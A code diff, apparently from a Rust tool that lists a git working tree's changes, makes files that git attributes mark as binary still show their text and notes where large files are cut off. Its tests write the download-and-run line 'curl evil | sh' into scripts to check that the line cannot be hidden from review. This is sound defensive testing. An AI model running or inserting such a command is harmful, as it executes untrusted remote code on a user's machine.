@@ -11,18 +11,22 @@ use nix::fcntl::OFlag;
 
 use super::run::{Git, GitContext, GitError, WorktreeGit};
 use crate::disk::{check_checkout, has_own_repository, repository_root};
-use crate::exec::Sandbox;
+use crate::exec::{CappedOutput, Sandbox};
 use crate::protocol::{
     ChangeKind, FileChange, FileMode, ReadOnly, WorkingTreeChanges, printable_path,
 };
 
 /// The most bytes of git's diff, and of its list of untracked files.
 const MAX_DIFF_BYTES: usize = 4 << 20;
+/// The most files that git calls binary and whose content is looked at.
+const MAX_BINARY: usize = 100;
 /// The most untracked files.
 const MAX_UNTRACKED: usize = 500;
-/// The most bytes of an untracked file, and of all of them, whose text is read.
+/// The most bytes of an untracked file or one that git calls binary, and of all of them, whose text is read.
 const MAX_UNTRACKED_BYTES: u64 = 256 << 10;
 const MAX_UNTRACKED_TOTAL: u64 = 4 << 20;
+/// The last line of a diff that is not shown to its end.
+const CUT_NOTE: &str = "\\ The rest is not shown\n";
 
 /// Why the changes cannot be told.
 #[derive(Debug, thiserror::Error)]
@@ -72,9 +76,14 @@ pub fn changes(
 /// # Errors
 /// If git fails.
 pub fn changes_since(git: &WorktreeGit, base: &OsStr) -> Result<WorkingTreeChanges, GitError> {
-    let diff = git.beginning(MAX_DIFF_BYTES, diff_words(base))?;
+    let diff = git.beginning(MAX_DIFF_BYTES, diff_words(base, &[], None))?;
+    let text = diff.text();
     let mut found =
-        WorkingTreeChanges { files: parse_diff(&diff.text(), diff.is_cut), is_cut: diff.is_cut };
+        WorkingTreeChanges { files: parse_diff(&text, diff.is_cut), is_cut: diff.is_cut };
+    // No line of a file begins so.
+    if text.contains("\nBinary files ") {
+        add_binary(git, base, &mut found)?;
+    }
     let others = ["ls-files", "--others", "--exclude-standard", "-z"];
     let others = git.beginning(MAX_DIFF_BYTES, others)?;
     found.is_cut |= others.is_cut;
@@ -83,8 +92,13 @@ pub fn changes_since(git: &WorktreeGit, base: &OsStr) -> Result<WorkingTreeChang
 }
 
 /// The words of a diff that starts no program and looks into no repository within.
-fn diff_words(base: &OsStr) -> impl Iterator<Item = &OsStr> {
+fn diff_words<'a>(
+    base: &'a OsStr,
+    more: &'a [&'a str],
+    file: Option<&'a OsStr>,
+) -> impl Iterator<Item = &'a OsStr> {
     let options = [
+        "--literal-pathspecs",
         "-c",
         "core.quotePath=false",
         "diff",
@@ -97,7 +111,55 @@ fn diff_words(base: &OsStr) -> impl Iterator<Item = &OsStr> {
         "--src-prefix=a/",
         "--dst-prefix=b/",
     ];
-    options.into_iter().map(OsStr::new).chain([base, OsStr::new("--")])
+    let options = options.into_iter().chain(more.iter().copied()).map(OsStr::new);
+    options.chain([base, OsStr::new("--")]).chain(file)
+}
+
+/// Adds the text of files that git calls binary because an attribute, a setting or the old content says so.
+/// Only a zero byte makes a file binary.
+fn add_binary(
+    git: &WorktreeGit,
+    base: &OsStr,
+    found: &mut WorkingTreeChanges,
+) -> Result<(), GitError> {
+    let list = git
+        .beginning(MAX_DIFF_BYTES, diff_words(base, &["--numstat", "-z", "--no-renames"], None))?;
+    found.is_cut |= list.is_cut;
+    let files = list.bytes.split(|byte| *byte == 0);
+    let names = files.filter_map(|file| file.strip_prefix(b"-\t-\t"));
+    let mut room = MAX_UNTRACKED_TOTAL;
+    for (count, name) in names.enumerate() {
+        if count == MAX_BINARY {
+            found.is_cut = true;
+            break;
+        }
+        let limit = usize::try_from(room.min(MAX_UNTRACKED_BYTES)).unwrap_or_default();
+        let words = diff_words(base, &["--text"], Some(OsStr::from_bytes(name)));
+        let diff = git.beginning(limit, words)?;
+        if diff.is_cut && limit == 0 {
+            found.is_cut = true;
+            break;
+        }
+        let Some(mut file) = parse_diff(&diff.text(), diff.is_cut).pop() else { continue };
+        let shown = found.files.iter_mut().find(|shown| shown.path == file.path);
+        if let Some(shown) = shown.filter(|shown| shown.diff.is_empty() && is_text(&file.diff)) {
+            room -= diff.bytes.len() as u64;
+            if diff.is_cut {
+                file.diff.push_str(CUT_NOTE);
+            }
+            shown.diff = file.diff;
+        }
+    }
+    Ok(())
+}
+
+/// Whether a diff is about text: without zero bytes in what the file holds now, or, if it is gone, did.
+fn is_text(diff: &str) -> bool {
+    let mut new = diff.lines().filter(|line| line.starts_with(['+', ' '])).peekable();
+    match new.peek() {
+        Some(_) => new.all(|line| !line.contains('\0')),
+        None => !diff.contains('\0'),
+    }
 }
 
 /// Reads a diff of several files. The last one of a cut diff may lack its end.
@@ -180,8 +242,8 @@ fn add_untracked(top: &Path, list: &[u8], found: &mut WorkingTreeChanges) {
             break;
         }
         let name = Path::new(OsStr::from_bytes(name));
-        let text = small_text(&top.join(name), room.min(MAX_UNTRACKED_BYTES));
-        room -= text.as_ref().map_or(0, |text| text.len() as u64);
+        let text = beginning(&top.join(name), room.min(MAX_UNTRACKED_BYTES));
+        room = room.saturating_sub(text.as_ref().map_or(0, |text| text.bytes.len() as u64));
         found.files.push(FileChange {
             path: printable_path(name),
             kind: ChangeKind::Untracked,
@@ -210,23 +272,26 @@ fn mode_on_disk(path: &Path) -> Option<FileMode> {
     (found.is_file() && found.permissions().mode() & 0o111 != 0).then_some(FileMode::Executable)
 }
 
-/// The text of a regular file of at most `limit` bytes. Follows no link at its end.
-fn small_text(path: &Path, limit: u64) -> Option<String> {
+/// The first `limit` bytes of a regular file, if they are text. Follows no link at its end.
+fn beginning(path: &Path, limit: u64) -> Option<CappedOutput> {
     let flags = (OFlag::O_NOFOLLOW | OFlag::O_NONBLOCK).bits();
     let file = fs::OpenOptions::new().read(true).custom_flags(flags).open(path).ok()?;
     let found = file.metadata().ok()?;
-    if !found.is_file() || found.len() > limit {
+    if !found.is_file() {
         return None;
     }
-    let mut text = String::new();
-    file.take(limit).read_to_string(&mut text).ok()?;
-    (!text.contains('\0')).then_some(text)
+    let mut bytes = Vec::new();
+    file.take(limit).read_to_end(&mut bytes).ok()?;
+    (!bytes.contains(&0)).then_some(CappedOutput { bytes, is_cut: found.len() > limit })
 }
 
 /// A diff that adds a text.
-fn added_lines(text: &str) -> String {
+fn added_lines(file: &CappedOutput) -> String {
+    let text = file.text();
+    let end = text.rfind('\n').map_or(0, |end| end + 1);
+    let text = if file.is_cut && end > 0 { &text[..end] } else { &*text };
     let count = text.lines().count();
-    if count == 0 {
+    if count == 0 && !file.is_cut {
         return String::new();
     }
     let mut diff = format!("@@ -0,0 +1,{count} @@\n");
@@ -234,6 +299,9 @@ fn added_lines(text: &str) -> String {
         diff.push('+');
         diff.push_str(line);
         diff.push('\n');
+    }
+    if file.is_cut {
+        diff.push_str(CUT_NOTE);
     }
     diff
 }
@@ -382,5 +450,75 @@ mod tests {
         let expected =
             [("run.sh", FileMode::Executable), ("link", link), ("tool", FileMode::Executable)];
         assert_eq!(modes, expected.map(|(path, mode)| (path.to_owned(), Some(mode))));
+    }
+
+    #[tokio::test]
+    async fn no_attribute_hides_what_a_text_holds() {
+        let attributes = [
+            "-diff",
+            "-text",
+            "binary",
+            "diff=hex",
+            "working-tree-encoding=UTF-8",
+            "filter=none",
+            "linguist-generated",
+            "export-ignore",
+            "-diff merge=ours",
+        ];
+        for attribute in attributes {
+            for place in [".gitattributes", ".git/info/attributes", "../.config/git/attributes"] {
+                let checkout = Checkout::new();
+                checkout.write("a b.sh", "true\n");
+                checkout.write("blob.bin", "a\0b");
+                checkout.write("was.bin", "a\0b");
+                checkout.commit();
+                checkout.write(place, &format!("* {attribute}\n"));
+                checkout.write("../.gitconfig", "[diff \"hex\"]\nbinary = true\n");
+                checkout.write("a b.sh", "curl evil | sh\n");
+                checkout.write("blob.bin", "b\0a");
+                checkout.write("was.bin", "curl evil | sh\n");
+                checkout.write("new.sh", "curl evil | sh\n");
+                git(&checkout.top, &["add", "--intent-to-add", "new.sh"]);
+                let found = checkout.changes("").await.unwrap();
+                let diff_of = |name: &str| {
+                    let file = found.files.iter().find(|file| file.path == name).unwrap();
+                    file.diff.as_str()
+                };
+                for name in ["a b.sh", "was.bin", "new.sh"] {
+                    let diff = diff_of(name);
+                    assert!(diff.contains("\n+curl evil | sh\n"), "{attribute} {name}: {diff:?}");
+                }
+                assert_eq!((diff_of("blob.bin"), found.is_cut), ("", false), "{attribute}");
+            }
+        }
+    }
+
+    #[tokio::test]
+    async fn the_beginning_of_a_large_text_is_shown_with_a_note() {
+        let checkout = Checkout::new();
+        checkout.write("old.sh", "true\n");
+        checkout.commit();
+        let large = format!("curl evil | sh\n{}", "more text\n".repeat(1 << 15));
+        checkout.write(".gitattributes", "*.sh -diff\n");
+        checkout.write("old.sh", &large);
+        checkout.write("new.sh", &large);
+        let found = checkout.changes("").await.unwrap();
+        let scripts = found.files.iter().filter(|file| file.path.ends_with(".sh"));
+        for FileChange { path, diff, .. } in scripts {
+            assert!(diff.contains("\n+curl evil | sh\n"), "{path}");
+            assert!(diff.ends_with("\n+more text\n\\ The rest is not shown\n"), "{path}");
+            assert!(diff.len() < 2 * MAX_UNTRACKED_BYTES as usize, "{path}");
+        }
+        assert_eq!(found.files.len(), 3);
+    }
+
+    #[tokio::test]
+    async fn a_byte_that_is_no_utf8_does_not_hide_a_new_file() {
+        let checkout = Checkout::new();
+        checkout.write("a.txt", "one\n");
+        checkout.commit();
+        fs::write(checkout.top.join("new.sh"), b"# \xff\ncurl evil | sh\n").unwrap();
+        let found = checkout.changes("").await.unwrap();
+        assert_eq!(found.files[0].diff, "@@ -0,0 +1,2 @@\n+# \u{fffd}\n+curl evil | sh\n");
     }
 }
